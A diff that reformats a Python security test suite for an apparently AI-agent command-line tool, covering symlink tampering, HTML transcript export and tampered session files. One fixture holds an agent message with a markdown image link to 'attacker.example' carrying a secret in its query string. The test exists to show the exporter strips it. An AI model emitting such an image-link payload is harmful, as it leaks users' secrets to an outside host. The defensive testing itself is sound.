@@ -20,8 +20,9 @@ def test_a_planted_mcp_log_link_does_not_empty_its_target(tmp_path):
     servers = Servers(tmp_path)
     config = cli.home / ".config" / "xun" / "config.toml"
     config.parent.mkdir(parents=True)
-    config.write_text(tomli_w.dumps({"mcp": {"servers": {"time": servers.time(trust=True),
-                                                          "other": servers.time(trust=True)}}}))
+    config.write_text(
+        tomli_w.dumps({"mcp": {"servers": {"time": servers.time(trust=True), "other": servers.time(trust=True)}}})
+    )
     bashrc = cli.home / ".bashrc"
     bashrc.write_text("export PATH=precious\n")
     mcp = cli.workdir / ".xun" / "mcp"
@@ -45,8 +46,9 @@ def test_an_html_export_fetches_no_remote_image_and_is_private(tmp_path):
 
     conversation = Conversation()
     conversation.add_user_message("show me")
-    conversation.add_agent_message({"role": "assistant",
-                                    "content": "done ![logo](https://attacker.example/p.png?k=SECRET) ok"})
+    conversation.add_agent_message(
+        {"role": "assistant", "content": "done ![logo](https://attacker.example/p.png?k=SECRET) ok"}
+    )
     path = render_transcript(conversation, "x.html", tmp_path)
     page = path.read_text()
     assert "<img" not in page and 'src="https://attacker.example' not in page
@@ -55,10 +57,9 @@ def test_an_html_export_fetches_no_remote_image_and_is_private(tmp_path):
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
 
 
-
-
 def _tamper_first_line(path, change) -> None:
     import json
+
     lines = path.read_text().splitlines(keepends=True)
     head = json.loads(lines[0])
     change(head)
@@ -80,8 +81,9 @@ def test_tampered_times_and_offload_lines_give_no_crash(tmp_path):
     listed = cli("sessions")
     assert listed.returncode == 0, listed.stderr
     assert session.stem in listed.stdout
-    entry = entry_from_record({"type": "tool_result_restored", "time": 1e300},
-                              lambda t: time.strftime("%H:%M:%S", time.localtime(t)), str)
+    entry = entry_from_record(
+        {"type": "tool_result_restored", "time": 1e300}, lambda t: time.strftime("%H:%M:%S", time.localtime(t)), str
+    )
     assert entry is not None and entry.time == "--:--:--"
     offload = cli.workdir / ".xun" / "conversation_history" / f"{session.stem}.md"
     offload.parent.mkdir(parents=True, exist_ok=True)
@@ -97,7 +99,9 @@ def test_a_tampered_summary_file_path_is_not_read(tmp_path):
     from xun.tui.transcript import OffloadedItem, offloaded_items
 
     outside = tmp_path / "elsewhere.md"
-    outside.write_text("## Offloaded at 2026-01-01T00:00:00Z\n\n<!-- xun conversation abc, 1 entries -->\n\n"
-                       "**Human:**\n    secret from elsewhere\n")
+    outside.write_text(
+        "## Offloaded at 2026-01-01T00:00:00Z\n\n<!-- xun conversation abc, 1 entries -->\n\n"
+        "**Human:**\n    secret from elsewhere\n"
+    )
     with pytest.raises(OSError, match="only those are read"):
         offloaded_items(OffloadedItem(str(outside), "2026-01-01T00:00:00Z", 0, "abc", 1), tmp_path / "ws")
